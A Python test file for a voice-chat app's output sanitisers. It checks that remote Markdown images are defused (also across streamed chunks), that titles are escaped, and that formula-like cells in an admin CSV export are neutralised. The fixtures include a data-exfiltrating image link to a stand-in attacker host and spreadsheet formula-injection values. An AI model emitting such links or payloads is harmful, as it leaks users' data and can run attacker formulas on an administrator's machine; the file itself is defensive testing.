"""Content that cannot bite: no remote image is ever rendered, titles stay text, and the admin's CSV holds
no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import re

from voicechat.dashboard import UserUsage
from voicechat.export import usage_csv
from voicechat.rendering import escape_markdown, stream_without_remote_images, without_remote_images

EXFILTRATING = "Sure! ![chart](https://evil.example/c.png?q=my+secret+plan) and [docs](https://ok.example)"


def test_images_become_text_links_and_links_stay() -> None:
    safe = without_remote_images(EXFILTRATING)
    assert "![" not in safe
    assert "[Image: chart](https://evil.example/c.png?q=my+secret+plan)" in safe
    assert "[docs](https://ok.example)" in safe
    assert "Sure!" in safe  # an exclamation mark that opens no image stays as it was


def test_reference_style_images_become_links_too() -> None:
    text = "See ![logo][1]\n\n[1]: https://evil.example/x.png"
    assert "![" not in without_remote_images(text)


def test_a_streamed_image_split_across_chunks_is_caught() -> None:
    chunks = ["Here it is!", "[x](https://evil.example/a.png) done", "!"]
    shown = "".join(stream_without_remote_images(chunks))
    assert shown == "Here it is[Image: x](https://evil.example/a.png) done!"
    for cut in range(1, len(EXFILTRATING)):  # wherever the stream is cut, no image survives
        joined = "".join(stream_without_remote_images([EXFILTRATING[:cut], EXFILTRATING[cut:]]))
        assert "![" not in joined and joined == without_remote_images(EXFILTRATING)


def test_titles_are_shown_literally() -> None:
    title = "# ![x](https://evil.example/t.png) **bold** [link](https://a.example)"
    escaped = escape_markdown(title)
    assert not re.search(r"(?<!\\)[!\[\]()*#]", escaped)  # every Markdown mark is escaped
    assert re.sub(r"\\(.)", r"\1", escaped) == title  # and nothing else changed


def test_the_usage_csv_defuses_formulas() -> None:
    rows = [
        UserUsage("u1", '=HYPERLINK("https://evil.example","x")@x.org', 1.5, 2, 10, 0.5, 0),
        UserUsage("u2", "+1-2@x.org", 0.0, 1, 1, 0.0, 0),
        UserUsage("u3", "-cmd@x.org", 0.0, 1, 1, 0.0, 0),
        UserUsage("u4", "@SUM(A1)@x.org", 0.0, 1, 1, 0.0, 0),
        UserUsage("u5", "plain@x.org", 0.25, 1, 1, 0.0, 0),
    ]
    table = list(csv.DictReader(io.StringIO(usage_csv(rows))))
    assert [row["email"][0] for row in table[:4]] == ["'"] * 4
    assert table[4]["email"] == "plain@x.org" and table[4]["cost_usd"] == "0.25"
    assert "user_id" not in table[0]
